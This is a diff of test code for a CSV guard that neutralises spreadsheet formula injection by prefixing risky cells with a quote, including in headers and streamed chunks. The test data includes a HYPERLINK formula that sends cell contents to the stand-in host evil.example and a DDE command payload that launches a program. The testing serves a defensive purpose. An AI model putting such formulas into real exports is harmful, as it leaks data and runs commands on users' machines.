@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { guardPayload } from "../../policies/guard/index.ts";
+import { guardPayload, openGuardStream } from "../../policies/guard/index.ts";
 import { expectedPseudonym, plan } from "./plans.ts";
 
 const ok = (r: ReturnType<typeof guardPayload>) => {
@@ -121,6 +121,55 @@ describe("CSV", () => {
       onMarker: "redact",
     });
     expect(ok(guardPayload(redact, text, "csv")).body).toBe("speed.avg\r\n1\r\n");
+  });
+});
+
+describe("CSV formula injection", () => {
+  it("prefixes with ' a released cell that starts with = + - @ and is not a number", () => {
+    const cells = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "@SUM(A1:A9)",
+      "+cmd|' /C calc'!A0",
+      "-2+3",
+      "-",
+      "=",
+      "-Infinity",
+      "+-1",
+    ];
+    const text = `vin\r\n${cells.map((c) => `"${c.replaceAll('"', '""')}"`).join("\r\n")}\r\n`;
+    const r = ok(guardPayload(plan(), text, "csv"));
+    expect(r.body).toBe(
+      `vin\r\n${cells
+        .map((c) => `'${c}`)
+        .map((c) => (/[",]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c))
+        .join("\r\n")}\r\n`,
+    );
+    expect(r.records).toBe(cells.length);
+  });
+
+  it("leaves numbers and other cells as they are", () => {
+    const numbers = ["-12", "+3", "-12.5", "-.5", "+1e5", "-2E-3", "0", "a=b", " =1", "'=x"];
+    const text = `vin\r\n${numbers.join("\r\n")}\r\n`;
+    expect(ok(guardPayload(plan(), text, "csv")).body).toBe(text);
+  });
+
+  it("defuses header cells too, and checks markers on the cell as sent", () => {
+    const p = plan({
+      classes: { "-x": "shared", vin: "shared" },
+      granted: ["-x", "vin"],
+      pseudonymize: [],
+    });
+    expect(ok(guardPayload(p, "-x,vin\r\n@a,=b\r\n", "csv")).body).toBe("'-x,vin\r\n'@a,'=b\r\n");
+    expect(guardPayload(plan(), "vin\r\n=CAL-123456\r\n", "csv")).toMatchObject({
+      reason: "leak",
+    });
+  });
+
+  it("the same in a stream, with the cell split across chunks", () => {
+    const s = openGuardStream(plan(), "csv");
+    expect(s.write("vin\r\n=1")).toEqual({ ok: true, text: "vin\r\n" });
+    expect(s.write("+1\r\n")).toEqual({ ok: true, text: "'=1+1\r\n" });
+    expect(s.end()).toEqual({ ok: true, text: "", records: 1 });
   });
 });
 
